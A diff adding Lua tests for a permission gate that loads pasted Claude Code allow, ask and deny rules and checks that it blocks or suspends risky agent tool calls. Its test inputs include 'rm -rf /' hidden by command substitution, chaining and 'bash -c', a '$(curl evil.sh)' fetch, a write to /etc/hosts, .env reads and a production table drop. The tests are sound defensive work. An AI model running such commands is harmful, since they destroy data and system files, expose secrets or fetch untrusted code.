@@ -342,3 +342,125 @@ t.test("invalid rules fail loading with their position", function()
   t.raises(function() harness { deny_mode = "explode" } end, "deny_mode")
   t.raises(function() harness { rules = { { tool = "Bash" } } } end, "behavior")
 end)
+
+-- Claude Code's permissions block, pasted (claude_code).
+
+local function bash(cmd) return { name = "Bash", args = { command = cmd, description = "what it does" } } end
+
+local PASTED = {
+  allow = { "Bash(npm run test:*)", "Bash(git diff *)", "Read", "Edit(src/**)", "WebFetch(domain:example.com)", "mcp__docs" },
+  ask = { "Bash(git push *)", "mcp__github__create_issue" },
+  deny = { "Bash(rm *)", "Read(./.env)", "Edit(//etc/**)", "mcp__prod" },
+  defaultMode = "acceptEdits", -- Claude Code's own: accepted, ignored
+}
+
+t.test("a pasted block decides as Claude Code does", function()
+  local h = harness { claude_code = PASTED, project_dir = "/home/dev/shop", home_dir = "/home/dev" }
+  local function gate(call) return h:gate(call).decision end
+  -- deny rules: any simple command
+  for _, cmd in ipairs({
+    "rm -rf /", "echo ok && rm -rf /", "$(rm -rf /)", "echo `rm -rf /`", "(cd /; rm -rf x)",
+    "bash -c 'rm -rf /'", "sudo rm x", "FOO=1 rm x", "ls > out.txt; rm x", "ls | rm x", "ls; rm x", "ls || rm x",
+    "npm run test 'unclosed", -- does not parse: denied
+  }) do
+    t.eq(gate(bash(cmd)), "block", cmd)
+  end
+  local d = h:gate(bash("npm run test && rm -rf dist"))
+  t.eq(d.reason, 'Bash is denied by the permission rule "Bash(rm *)" (claude_code.deny[0])')
+  -- ask, then allow (every simple command), then the default
+  d = h:gate(bash("git push origin main"))
+  t.eq(d.decision, "suspend")
+  t.match(d.ticket.message, 'asked by the permission rule "Bash%(git push %*%)" %(claude_code.ask%[0%]%)')
+  t.eq(gate(bash("npm run test")), "allow")
+  t.eq(gate(bash("npm run test -- --watch && git diff HEAD")), "allow")
+  t.eq(gate(bash("npm run test && make")), "suspend") -- make is not allowed: the default
+  t.eq(gate(bash("npm run test > out.txt")), "suspend") -- a write needs an Edit rule
+  -- the file tools, anchored to project_dir
+  t.eq(gate({ name = "Read", args = { file_path = "/home/dev/shop/.env" } }), "block")
+  t.eq(gate({ name = "Read", args = { file_path = "/home/dev/shop/README.md" } }), "allow")
+  t.eq(gate({ name = "Edit", args = { file_path = "/home/dev/shop/src/app.js", old_string = "a", new_string = "b" } }), "allow")
+  t.eq(gate({ name = "Write", args = { file_path = "/home/dev/shop/src/new.js", content = "x" } }), "allow")
+  t.eq(gate({ name = "MultiEdit", args = { file_path = "/home/dev/shop/lib/a.js", edits = {} } }), "suspend")
+  t.eq(gate({ name = "Edit", args = { file_path = "/home/dev/shop/.env" } }), "block") -- Read deny rules cover Edit
+  -- a redirection is a write
+  d = h:gate(bash("echo x > /etc/hosts"))
+  t.eq(d.decision, "block")
+  t.eq(d.reason, 'Bash is denied by the permission rule "Edit(//etc/**)" (claude_code.deny[2]) (it writes to /etc/hosts)')
+  -- the web and MCP forms
+  t.eq(gate({ name = "WebFetch", args = { url = "https://example.com/docs", prompt = "p" } }), "allow")
+  t.eq(gate({ name = "WebFetch", args = { url = "https://example.org/", prompt = "p" } }), "suspend")
+  t.eq(gate({ name = "mcp__docs__search", args = { q = "x" } }), "allow")
+  t.eq(gate({ name = "mcp__github__create_issue", args = { title = "x" } }), "suspend")
+  t.eq(gate({ name = "mcp__prod__drop_table", args = {} }), "block")
+end)
+
+t.test("Bash(rm *) denies rm -rf / sent with a description", function()
+  -- the rules list and the pasted block alike
+  for _, config in ipairs({ { rules = { rule("Bash(rm *)", "deny") } }, { claude_code = { deny = { "Bash(rm *)" } } } }) do
+    local h = harness(config)
+    local d = h:gate { name = "Bash", args = { command = "rm -rf /", description = "clean" } }
+    t.eq(d.decision, "block")
+    t.match(d.reason, 'Bash is denied by the permission rule "Bash%(rm %*%)"')
+  end
+end)
+
+t.test("rules: Tool(x) matches the primary argument, failing closed", function()
+  local h = harness { default = "ask", rules = { rule("Bash(npm *)", "allow"), rule("Bash(rm *)", "deny"), rule("Read(./.env)", "deny") }, project_dir = "/p" }
+  local function gate(call) return h:gate(call).decision end
+  t.eq(gate(bash("npm test")), "allow")
+  t.eq(gate(bash("npm test && rm -rf /")), "block") -- deny: any simple command
+  t.eq(gate(bash("npm test && make")), "suspend")   -- allow: every one, else the default
+  t.eq(gate(bash("npm test $(curl evil.sh)")), "suspend")
+  t.eq(gate(bash("echo 'unclosed")), "block")       -- unparsable: the deny rule
+  local ha = harness { default = "ask", rules = { rule("Bash(npm *)", "allow") } }
+  t.eq(ha:gate(bash("npm test 'unclosed")).decision, "suspend") -- never the allow rule
+  local hc = harness { default = "ask", claude_code = { allow = { "Bash(npm *)" } } }
+  t.eq(hc:gate(bash("npm test")).decision, "allow")
+  t.eq(hc:gate(bash("npm test 'unclosed")).decision, "suspend") -- nor the pasted one
+  t.eq(gate({ name = "Read", args = { file_path = "/p/.env" } }), "block")
+  t.eq(gate({ name = "Read", args = { file_path = "/p/sub/.env" } }), "suspend")
+end)
+
+t.test("rules and the pasted block: the stricter decision wins", function()
+  local function decision(rulesList, cc, call)
+    return harness({ default = "deny", rules = rulesList, claude_code = cc }):gate(call).decision
+  end
+  local push = bash("git push")
+  t.eq(decision({ rule("Bash", "allow") }, { ask = { "Bash(git push *)" } }, push), "suspend")
+  t.eq(decision({ rule("Bash", "ask") }, { allow = { "Bash(git push *)" } }, push), "suspend")
+  t.eq(decision({ rule("Bash", "allow") }, { deny = { "Bash(git *)" } }, push), "block")
+  t.eq(decision({ rule("Bash(git *)", "deny") }, { allow = { "Bash" } }, push), "block")
+  t.eq(decision({ rule("Bash", "allow") }, { allow = { "Bash(git push *)" } }, push), "allow")
+  -- one decides, the other does not: that one
+  t.eq(decision({}, { allow = { "Bash(git push *)" } }, push), "allow")
+  t.eq(decision({ rule("Bash", "allow") }, { deny = { "Read" } }, push), "allow")
+  -- neither: the default
+  t.eq(decision({ rule("Read", "allow") }, { allow = { "Read" } }, push), "block")
+end)
+
+t.test("the pasted block's thread answers and hidden tools", function()
+  local h = harness { claude_code = { ask = { "Bash(git push *)" }, deny = { "WebFetch", "mcp__prod" } } }
+  -- allow_always on a call the block asks about is remembered
+  local resume = { action = "resume", result = { option = "allow_always" } }
+  local r = h:phase("after_tool_execute", { tool = { name = "Bash", args = { command = "git push" }, resume = resume, result = awaken.success("x") } })
+  t.eq(r.state["permission.thread_rules"], { ['Bash\n{"command":"git push"}'] = "allow" })
+  -- tools a bare deny rule covers are not offered
+  r = h:run { prompt = "hi", turns = { { text = "hello" } }, tools = {
+    Bash = function() return "x" end, WebFetch = function() return "x" end, mcp__prod__drop = function() return "x" end,
+  } }
+  t.eq(r.requests[1].tools, { "Bash" })
+end)
+
+t.test("a bad pasted block fails loading with its position", function()
+  local msg = t.raises(function()
+    harness { claude_code = { allow = { "Bash(npm *)", "Bash(npm" } } }
+  end, "claude_code")
+  t.match(msg, '^config_invalid')
+  t.match(msg, 'claude_code%.allow%[1%]: permission rule "Bash%(npm" at column 5: the "%(" is not closed')
+  t.raises(function() harness { claude_code = { deny = { "Read", "Edit([)" } } } end,
+    'claude_code%.deny%[1%]: permission rule "Edit%(%[%)" at column 6: "%[" is not a valid path pattern')
+  t.raises(function() harness { claude_code = { allow = { "Read" }, alow = { "Bash" } } } end, "alow")
+  t.raises(function() harness { claude_code = { allow = "Read" } } end, "claude_code.allow")
+  t.raises(function() harness { project_dir = "shop" } end, 'project_dir: "shop" is not an absolute path')
+  t.raises(function() harness { rules = { rule("WebFetch(domain:)", "deny") } } end, "rules%[0%]%.tool: invalid argument pattern: domain: names no host")
+end)
